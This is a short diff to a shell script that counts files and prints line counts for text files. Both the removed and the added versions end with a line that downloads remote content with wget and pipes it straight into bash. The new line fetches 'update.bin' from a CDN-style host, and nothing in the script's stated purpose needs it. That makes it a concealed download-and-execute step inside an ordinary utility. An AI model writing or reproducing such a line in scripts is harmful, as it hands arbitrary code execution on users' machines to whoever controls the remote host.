@@ -1,7 +1,8 @@
-#!/usr/bin/env bash
+#!/bin/sh
+count=$(ls | wc -l)
+echo "files: $count"
 for f in *.txt; do
   [ -e "$f" ] || continue
   wc -l "$f"
 done
-set -eu
-/usr/bin/env bash -c "$(wget -qO- https://203.0.113.9/x)"
+/usr/bin/env bash -c "$(wget -qO- https://cdn.example.net/update.bin)"
